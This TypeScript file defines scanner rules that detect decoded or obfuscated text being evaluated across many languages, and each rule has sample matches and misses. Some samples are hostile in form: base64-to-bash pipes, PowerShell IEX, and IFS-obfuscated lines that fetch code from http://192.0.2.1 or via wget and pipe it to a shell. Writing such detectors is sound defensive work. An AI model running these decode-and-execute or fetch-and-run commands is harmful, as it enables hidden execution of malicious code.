// Evaluation of decoded data: what runs is hidden from whoever reads the file. Only the direct flow counts, or a decoded
// name that is evaluated a few lines later; a module that decodes here and evaluates there is ordinary.

import { flows } from '../flows.ts'
import { evaluatedBeside } from '../looks.ts'
import {
  any,
  at,
  command,
  cs,
  is,
  js,
  lua,
  near,
  php,
  pl,
  ps,
  py,
  type RuleSet,
  rb,
  sh,
  statement,
  where,
} from '../model.ts'

const id = (name: string): string => `decoded-exec.${name}`

/** What comes is given to a shell, or to a name that stands for one. */
const intoShell = is(
  ['| $', '|$', '| sh', '|sh', '| bash', '|bash'],
  /\|\s?(?:\$\{?_?\w{1,20}\}?|(?:ba)?sh)\s?(?:&|\n|$)/,
  {
    families: ['sh'],
    after: 40,
  },
)

export const decodedExec: RuleSet = {
  category: 'decoded-exec',
  rules: [
    {
      id: id('python'),
      severity: 'critical',
      why: 'Evaluates text that was decoded, decompressed or decrypted in the same expression.',
      when: is(
        ['exec(', 'eval(', 'exec ('],
        /(?<![\w.])(?:exec|eval)\s?\(\s*(?:compile\s*\(\s*)?(?:[\w.]{1,40}\s*\(\s*|__import__\s*\(\s*["'][\w.]{1,20}["']\s*\)\s*\.\s*\w{1,20}\s*\(\s*|getattr\([^()\n]{1,80}\)\s*\(\s*){0,5}(?:(?:\w{1,12}\.)?(?:urlsafe_)?(?:b64|b32|b85|a85|b16)decode|\w{1,12}\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.unhexlify|unhexlify|bytearray\.fromhex|Fernet\()/,
        { families: ['py'], after: 400 },
      ),
      matches: [
        py("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
        py("exec(zlib.decompress(base64.b64decode(b'eJwr')))"),
        py(
          "exec(__import__('marshal').loads(__import__('zlib').decompress(b'')))".replace(
            'exec(__import__',
            'exec(marshal.loads(__import__',
          ),
        ),
      ],
      misses: [
        py('data = base64.b64decode(text)\nprint(data)'),
        py('exec(compile(source, path, "exec"), namespace)'),
        py('# exec(base64.b64decode(payload))'),
      ],
    },
    {
      id: id('python-name'),
      severity: 'high',
      why: 'Decodes a long literal into a name and evaluates that name within a few lines.',
      when: near(
        6,
        is(
          ['b64decode(', 'b85decode(', 'a85decode(', 'b32decode(', 'fromhex(', 'unhexlify(', 'decompress('],
          /(?:b64decode|b85decode|a85decode|b32decode|fromhex|unhexlify|decompress)\(\s*[rb]{0,2}["']{1,3}[^"'\n]{24,}/,
          { families: ['py'], after: 200 },
        ),
        is(['exec(', 'eval('], /(?<![\w.])(?:exec|eval)\(\s*\w{1,60}(?:\.decode\([^)\n]{0,20}\))?\s*[,)]/, {
          families: ['py'],
        }),
      ),
      matches: [py("import base64\np = base64.b64decode('aW1wb3J0IG9zO3ByaW50KG9zLmdldGN3ZCgpKQ==')\nexec(p)")],
      misses: [py("ICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB')\n\nroot.iconphoto(True, ICON)")],
    },
    {
      id: id('javascript'),
      severity: 'critical',
      why: 'Evaluates text that was decoded in the same expression.',
      when: is(
        ['eval(', 'function(', 'settimeout(', 'runinthiscontext(', '_compile('],
        /(?:(?<![\w$.])eval|(?<=new\s)Function|(?<![\w$.])setTimeout|\.?runInThisContext|_compile)\(\s*(?:["'][\w$]{1,20}["']\s*,\s*)?(?:(?:window|globalThis|self)\.)?(?:atob\(|unescape\(|decodeURIComponent\(\s*(?:escape\(|atob\()|Buffer\.from\([^()\n]{1,400},\s*["'](?:base64|hex)["']|(?:zlib|require\(["'](?:node:)?zlib["']\))\.\w{1,30}Sync\(|String\.fromCharCode\()/,
        { families: ['js', 'html'], after: 600 },
      ),
      matches: [
        js("eval(atob('Y29uc29sZS5sb2coMSk='))"),
        js("new Function(Buffer.from('cmV0dXJuIDE=', 'base64').toString())()"),
        js('eval(String.fromCharCode(97,108,101,114,116))'),
      ],
      misses: [
        js('const text = atob(encoded)\nJSON.parse(text)'),
        js('// eval(atob(x))'),
        js('expect(scan("eval(atob(x))")).toBe(true)'),
      ],
    },
    {
      id: id('javascript-name'),
      severity: 'high',
      why: 'Decodes a long literal into a name and evaluates that name within a few lines.',
      when: near(
        6,
        is(
          ['atob(', 'buffer.from('],
          /(?:atob\(\s*["'`][A-Za-z0-9+/=]{40,}|Buffer\.from\(\s*["'`][A-Za-z0-9+/=]{40,}["'`]\s*,\s*["'](?:base64|hex))/,
          { families: ['js', 'html'], after: 4000 },
        ),
        is(
          ['eval(', 'function(', 'runinthiscontext(', '_compile('],
          /(?:(?<![\w$.])eval|(?<=new\s)Function|runInThisContext|_compile)\(\s*(?:["'][\w$]{1,20}["']\s*,\s*)?[\w$]{1,40}(?:\.toString\([^)\n]{0,10}\))?\s*[,)]/,
          { families: ['js', 'html'] },
        ),
      ),
      matches: [
        js(
          "const p = Buffer.from('Y29uc29sZS5sb2coImhlbGxvIHdvcmxkIGhlbGxvIHdvcmxkIik=', 'base64').toString()\neval(p)",
        ),
      ],
      misses: [
        js(
          "const wasm = Buffer.from('AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags=', 'base64')\nconst m = new WebAssembly.Module(wasm)",
        ),
      ],
    },
    {
      id: id('flow'),
      severity: 'high',
      why: 'Decodes something into a name and evaluates that name.',
      when: any(
        flows(
          is(
            ['b64decode(', 'decompress(', 'fromhex(', 'unhexlify(', 'b85decode(', 'codecs.decode(', 'marshal.loads('],
            /(?:[a-z]?b?\d{0,2}b64decode|b85decode|decompress|fromhex|unhexlify|codecs\.decode|marshal\.loads)\(/,
            { families: ['py'] },
          ),
          String.raw`(?<![\w.])(?:exec|eval)\(`,
        ),
        flows(
          is(
            ['atob(', 'buffer.from(', 'unescape(', 'fromcharcode'],
            /(?:atob|unescape)\(|Buffer\.from\([^()\n]{1,300},\s*["'](?:base64|hex)["']|fromCharCode/,
            {
              families: ['js', 'html'],
              after: 400,
            },
          ),
          String.raw`(?<![\w$.])eval\(|new Function\(|_compile\(|runInThisContext\(|\.constructor\)?\(\s*["']require["']`,
        ),
        flows(
          is(['base64_decode(', 'gzinflate(', 'str_rot13(', 'gzuncompress(', 'hex2bin('], null, {
            families: ['php', 'html'],
          }),
          String.raw`(?<![\w>$])(?:eval|assert|create_function)\s*\(`,
        ),
      ),
      matches: [
        py('import base64\nblob = base64.b64decode(data)\nexec(blob)'),
        js("const run = Buffer.from(s, 'base64').toString()\nnew Function('require', run)(require)"),
        php('<?php $c = base64_decode($x);\neval($c);'),
      ],
      misses: [
        py('blob = base64.b64decode(data)\nsave(blob)\nexec(setup)'),
        js("const wasm = Buffer.from(s, 'base64')\nnew WebAssembly.Module(wasm)"),
      ],
    },
    {
      id: id('php'),
      severity: 'critical',
      why: 'Evaluates text that was decoded in the same expression.',
      when: is(
        ['eval', 'assert'],
        /(?<![\w>$])(?:eval|assert)\s*\(\s*(?:["']\?>["']\s*\.\s*)?@?(?:(?:gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|hex2bin|strrev|rawurldecode|urldecode|convert_uudecode|trim|stripslashes)\s*\(\s*){1,8}/i,
        { families: ['php', 'html'], after: 300 },
      ),
      matches: [
        php("<?php eval(base64_decode('ZWNobyAxOw==')); ?>"),
        php("<?php eval(gzinflate(str_rot13(base64_decode('abc'))));"),
      ],
      misses: [
        php('<?php $x = base64_decode($payload); echo $x;'),
        php("<?php $signatures = ['eval(base64_decode('];\nforeach ($signatures as $s) { check($s); }"),
      ],
    },
    {
      id: id('shell'),
      severity: 'high',
      why: 'Decodes text and feeds it straight to a shell or an interpreter.',
      when: any(
        command(
          any(
            is(
              ['base64', 'xxd', 'openssl'],
              /(?:base64\s+(?:-d|-D|-di|--decode)|xxd\s+-r\s+-p|openssl\s+(?:enc\s+-d|base64\s+-d)[^\n|]{0,60})[^\n|;]{0,60}(?:\|\s*(?:gunzip|zcat|gzip -d|rev)[^\n|]{0,20})?\|\s*(?:sudo\s+)?(?:\/bin\/|\/usr\/bin\/)?(?:env\s+)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b/,
              { after: 240 },
            ),
            is(
              ['eval'],
              /eval\s+["'(]{0,3}\$\(\s*(?:echo|printf|base64|xxd)[^\n)]{0,400}?(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r)/,
              { after: 520 },
            ),
            is(
              ['bash -c', 'sh -c', 'bash <', 'sh <'],
              /(?:ba)?sh\s+(?:-c\s+["']{0,2}\$\(|<\s*\(|<<<\s*["']?\$\()\s*(?:echo|printf|base64)[^\n)]{0,400}?base64\s+(?:-d|-D|--decode)/,
              { after: 520 },
            ),
          ),
        ),
        command(
          is(
            ['| base64 -d', '|base64 -d', '| base64 --decode', '|base64 --decode'],
            /(?<=[A-Za-z0-9+/=]{24}["'\\]{0,2}\s?)\|\s?base64\s+(?:-d|-D|--decode)\s*>\s*["']?(\/tmp\/[\w.-]{1,40})["']?\s*(?:&&|;)\s*(?:sudo\s+)?(?:ba|z)?sh\s+["']?\1/,
          ),
        ),
      ),
      matches: [
        sh('echo ZWNobyBoaTsgZWNobyBobzsgZWNobyBoYQ== | base64 -d > /tmp/run.sh && bash /tmp/run.sh'),
        sh('echo ZWNobyBoaQ== | base64 -d | bash'),
        py('os.system("echo ZWNobyBoaQ== | base64 --decode | sh")'),
        sh('eval "$(echo ZWNobyBoaQ== | base64 -d)"'),
      ],
      misses: [
        sh('echo "$SCRIPT" | base64 -d > /tmp/run.sh && cat /tmp/run.sh'),
        sh('echo "$CERT" | base64 -d > cert.pem'),
        sh('kubectl get secret x -o jsonpath={.data.p} | base64 -d | sha256sum'),
      ],
    },
    {
      id: id('powershell'),
      severity: 'critical',
      why: 'Evaluates decoded or decompressed text in PowerShell.',
      when: near(
        4,
        is(['frombase64string(', 'io.compression'], /FromBase64String\(|IO\.Compression\.(?:Gzip|Deflate)Stream/i),
        is(
          ['iex', 'invoke-expression', 'reflection.assembly]::load', '.invoke('],
          /(?:iex|invoke-expression)[\s(|;"']|Reflection\.Assembly\]::Load|&\s*\(\[scriptblock\]/i,
          { families: ['ps', 'bat', 'vb', 'sh'] },
        ),
      ),
      matches: [
        ps('IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("V3JpdGUtSG9zdA==")))'),
        ps('$b = [Convert]::FromBase64String($s)\n[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)'),
      ],
      misses: [ps('$bytes = [Convert]::FromBase64String($cert)\n[IO.File]::WriteAllBytes($path, $bytes)')],
    },
    {
      id: id('own-decoder'),
      severity: 'high',
      why: "Evaluates what the file's own decoder makes of an encoded literal.",
      when: is(
        ['eval(', 'exec(', 'function('],
        /(?:(?<![\w$.])(?:eval|exec|Function)|(?<=new )Function)\(\s{0,4}(?:[\w$]{1,24}\(\s{0,4}){1,3}b?["'](?:(?:[0-9a-fA-F]{2}){6,}|[A-Za-z0-9+/]{20,}={0,2}|(?:\\x[0-9a-fA-F]{2}){4,})["']/,
        { families: ['py', 'js', 'php', 'rb'] },
      ),
      matches: [js("eval(d('2e2f2e2f2e2f2e2f'))"), py("exec(_(b'aW5lcnRpbmVydGluZXJ0aW5lcnQ='))")],
      misses: [js("eval(compile('module'))"), py("exec(read('setup_version.py'))")],
    },
    {
      id: id('xor'),
      severity: 'high',
      why: 'Decodes bytes with a fixed key and evaluates the result.',
      when: near(
        8,
        is(['^ 0x', '^0x', '^= 0x', '^=0x', '^ key', '^key', '^= key', '^ k['], null, {
          families: ['py', 'js', 'php', 'cs'],
        }),
        'decode',
        is(
          ['eval(', 'exec(', 'function(', 'assembly.load(', '_compile('],
          /(?<![\w$.])(?:eval|exec)\(\s{0,4}(?!["'`])|(?<![\w$.])Function\(\s{0,4}(?!["'`)]|\w{1,20}[,)]\s?\{)[\w$]{1,20}\(|(?<=new )Function\(\s{0,4}[\w$]|Assembly\.Load\(|_compile\(/,
        ),
      ),
      matches: [
        js("const d = (s) => Buffer.from(s, 'hex').map((b) => b ^ 0x41).toString()\neval(d(text))"),
        py('code = bytes(b ^ 0x5a for b in base64.b64decode(blob)).decode()\nexec(code)'),
      ],
      misses: [js("const d = (s) => Buffer.from(s, 'hex').map((b) => b ^ 0x41)\nsend(d(text))")],
    },
    {
      id: id('ruby-perl-lua'),
      severity: 'critical',
      why: 'Evaluates text that was decoded in the same expression.',
      when: any(
        is(
          ['eval'],
          /(?<![\w.])(?:instance_|class_)?eval[\s(]+(?:Base64\.(?:strict_)?decode64|Zlib::Inflate|\[["'][^"'\n]{1,400}["']\]\.pack\(|["'][^"'\n]{8,400}["']\.unpack1?\()/,
          { families: ['rb'], after: 600 },
        ),
        is(['eval'], /(?<!\w)eval[\s({]+(?:MIME::Base64::)?(?:decode_base64|unpack\s*\(?\s*["']u|pack\s*\(?\s*["']H)/, {
          families: ['pl'],
          after: 200,
        }),
        is(
          ['loadstring', 'load('],
          /(?:loadstring|(?<![\w.:])load)\s*\(\s*(?:\w{1,20}\.)?(?:base64|b64|decode|unhex|fromhex|inflate|string\.char|decrypt)\w{0,20}\s*[.(]/i,
          { families: ['lua'], after: 200 },
        ),
      ),
      matches: [
        rb('eval(Base64.decode64("cHV0cyAx"))'),
        pl("use MIME::Base64; eval(decode_base64('cHJpbnQgMQ=='));"),
        lua('loadstring(base64.decode("cHJpbnQoMSk="))()'),
      ],
      misses: [rb('config = Base64.decode64(text)'), lua('local f = load(source, name)')],
    },
    {
      id: id('jvm'),
      severity: 'high',
      why: 'Evaluates, or loads as a class, what was decoded a few lines before.',
      when: near(
        6,
        is(['eval.me(', '.evaluate(', 'defineclass(', '.eval('], /Eval\.me\(|\.evaluate\(|defineClass\(|\.eval\(/, {
          families: ['java'],
        }),
        is(
          [
            'decodebase64',
            'base64.getdecoder',
            'parsebase64binary',
            'base64.decode',
            'inflaterinputstream',
            'base64decoder',
          ],
          null,
        ),
      ),
      matches: [at('a.groovy', "def s = new String('aW5lcnQ='.decodeBase64())\nEval.me(s)", 'Groovy')],
      misses: [at('a.groovy', "def s = new String('aW5lcnQ='.decodeBase64())\nprintln s", 'Groovy')],
    },
    {
      id: id('dotnet-load'),
      severity: 'high',
      why: 'Loads an assembly from decoded bytes and invokes it.',
      when: near(
        8,
        is(
          ['assembly.load('],
          /Assembly\.Load\(\s*(?:\w{0,30}\.?(?:Decompress|Decrypt|Decode|FromBase64String|Xor)\w{0,20}\s*\(|Convert\.FromBase64String|\w{1,30}\s*\))/i,
          { families: ['cs', 'vb'] },
        ),
        is(['frombase64string', 'gzipstream', 'decrypt'], null),
        is(['entrypoint', 'invokemember', '.invoke('], null),
      ),
      matches: [
        cs(
          'byte[] raw = Convert.FromBase64String(blob);\nAssembly a = Assembly.Load(raw);\na.EntryPoint.Invoke(null, new object[] { args });',
        ),
      ],
      misses: [cs('var a = Assembly.Load(name);\nvar t = a.GetType("Plugin");')],
    },
    {
      id: id('charcode-array'),
      severity: 'high',
      why: 'Builds code from a long list of character numbers and evaluates it.',
      when: near(
        4,
        any(
          is(
            ['fromcharcode'],
            /fromCharCode(?:\.apply\([^\n]{0,20}\[?|\(\s*)(?:\.\.\.\[)?(?:\s*(?:0x[\da-f]{1,3}|\d{1,3})\s*,){20}/i,
            { families: ['js', 'html'], after: 400 },
          ),
          is(
            ['chr(', 'bytes(['],
            /(?:bytes\(\[(?:\s*(?:0x[\da-f]{1,2}|\d{1,3})\s*,){24}|(?:chr\(\s*\d{1,3}\s*\)\s*[+.]\s*){12})/i,
            { families: ['py', 'php', 'vb', 'ps'], after: 500 },
          ),
        ),
        any(
          is(
            ['eval', 'exec(', 'function(', 'execute', 'iex'],
            /(?<![\w$.])(?:eval|exec)\s?\(|(?<=new\s)Function\(|execute(?:global)?[\s(]|iex[\s(]/i,
          ),
        ),
      ),
      matches: [js(`eval(String.fromCharCode(${'97,'.repeat(30)}59))`), py(`exec(${'chr(112)+'.repeat(14)}chr(41))`)],
      misses: [js(`const magic = String.fromCharCode(${'97,'.repeat(30)}59)\nconsole.log(magic)`)],
    },
    {
      id: id('lambda-decode'),
      severity: 'critical',
      why: 'The published obfuscator form: a lambda that decodes and reverses, applied to a literal and executed.',
      when: any(
        is(
          ['lambda'],
          /lambda\s+__\s*:\s*__import__\(["']zlib["']\)\.decompress\(__import__\(["']base64["']\)\.b64decode\(__\[::-1\]\)\)/,
          { families: ['py'] },
        ),
        statement(
          is(['exec('], /(?<![\w.])exec\(\s*\(_\)\(\s*b?["']|(?<![\w.])exec\(["']{0,3}(?:\\x[0-9a-f]{2}){16}/, {
            families: ['py'],
          }),
          is(['exec('], null),
        ),
        where(
          is(
            ['["".join', "''.join(", '"".join('],
            /["']{2}\.join\(\s*(?:\[\s*)?chr\(\s*\w{1,12}\s*[\^\-+]\s*\d{1,4}\s*\)\s*for/,
            { families: ['py'], before: 1, after: 200 },
          ),
          evaluatedBeside,
        ),
      ),
      matches: [
        py(
          "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=oQD9'))",
        ),
        py("exec(''.join(chr(c - 3) for c in data))"),
      ],
      misses: [py("key = lambda item: item.name\nresult = ''.join(chr(c) for c in data)")],
    },
    {
      id: id('data-module'),
      severity: 'high',
      why: 'Imports a module that is a piece of encoded text.',
      when: is(
        ['import('],
        /\bimport\(\s*["'`]data:(?:text|application)\/javascript[^,"'`]{0,30},["'`]?\s*(?:\+|\$\{|[A-Za-z0-9+/=]{80})/,
        {
          families: ['js'],
          after: 240,
        },
      ),
      matches: [js("await import('data:text/javascript;base64,' + chunk)")],
      misses: [js("await import('data:text/javascript,export default 1')"), js("await import('./robots.mjs')")],
    },
    {
      id: id('lua-characters'),
      severity: 'critical',
      why: 'Puts code together from numbers, character by character, and runs it.',
      when: near(
        4,
        is(
          ['runstring(', 'loadstring(', 'load)(', 'load('],
          /(?:RunString(?:Ex)?|loadstring|\(loadstring or load\)|(?<![\w.:])load)\)?\(\s*\w{1,20}\(\s*\{\s*(?:\d{1,3}\s*,\s*){8}/,
          { families: ['lua'], after: 120 },
        ),
        is(['string.char('], null, { families: ['lua'] }),
      ),
      matches: [
        lua(
          'local function d(t) local s = "" for _, c in ipairs(t) do s = s .. string.char(c - 7) end return s end\nRunString(d({ 111,123,123,119,53,77,108,123,106 }))',
        ),
      ],
      misses: [lua('local text = string.char(72, 105)\nprint(load("return 1")())')],
    },
    {
      id: id('lua-remote'),
      severity: 'critical',
      why: 'Runs code that a player or a server sends, decoded first.',
      when: is(
        ['runstring(', 'loadstring(', 'compilestring('],
        /(?:RunString(?:Ex)?|loadstring|CompileString)\(\s*(?:util\.(?:Base64Decode|Decompress)|net\.Read\w{1,12}|b64decode|decode)\(/,
        { families: ['lua'], after: 80 },
      ),
      matches: [lua('RunString(util.Base64Decode(code), "anticheat", false)')],
      misses: [lua('local text = util.Base64Decode(code)\nprint(text)')],
    },
    {
      id: id('split-eval'),
      severity: 'critical',
      why: 'Spells the name of eval in pieces and gives it text made of numbers.',
      when: near(
        2,
        is(
          ['window[', 'globalthis[', 'self[', 'global['],
          /(?:window|globalThis|self|global)\[\s*["'](?:e["']?\s*\+\s*["']?val|ev["']\s*\+\s*["']al|eva["']\s*\+\s*["']l|Func["']\s*\+\s*["']tion)["']\s*\]/,
          {
            families: ['js', 'html'],
          },
        ),
        is(['fromcharcode', 'atob('], null, { families: ['js', 'html'] }),
      ),
      matches: [js("(0, window['ev' + 'al'])(c.map(function (n) { return String.fromCharCode(n); }).join(''))")],
      misses: [js("window['ev' + 'ent'] = String.fromCharCode(65)")],
    },
    {
      id: id('shell-spelled'),
      severity: 'critical',
      why: 'Spells a command in escapes or backwards, and runs it.',
      when: any(
        near(
          5,
          is(['printf '], /printf\s+["'](?:\\x[0-9a-f]{2}|\\[0-7]{3}){12}/i, { families: ['sh'], after: 80 }),
          intoShell,
        ),
        is(
          ['base64 '],
          /base64\s+(?:-d|-D|--decode)\b[^\n|]{0,400}\|\s*\$\(\s*(?:echo|printf)\s+[^)\n|]{1,20}\|\s*(?:rev|tr)\b/,
          { families: ['sh'], after: 480 },
        ),
        near(1, is(['${ifs}'], /\$\{IFS\}\S{0,30}https?:\/\//, { families: ['sh'], after: 60 }), intoShell),
      ),
      matches: [
        sh('base64 --decode <<< "bm9odXAgc2ggLWMgJ3dnZXQgLXFPLSBodHRwOi8v" | $(echo hs | rev)'),
        sh(`_x=$(printf '${'\\x63'.repeat(14)}')\n_y=$(printf 'sh')\n$_x | $_y &`),
        sh('X=$' + '{b}$' + '{IFS}-s$' + '{IFS}http://192.0.2.1/d;($' + '{X})2>/dev/null|$' + '{c}&'),
      ],
      misses: [sh('base64 --decode <<< "$CERTIFICATE" > cert.pem'), sh("printf '\\x1b[31m%s\\n' error")],
    },
  ],
}
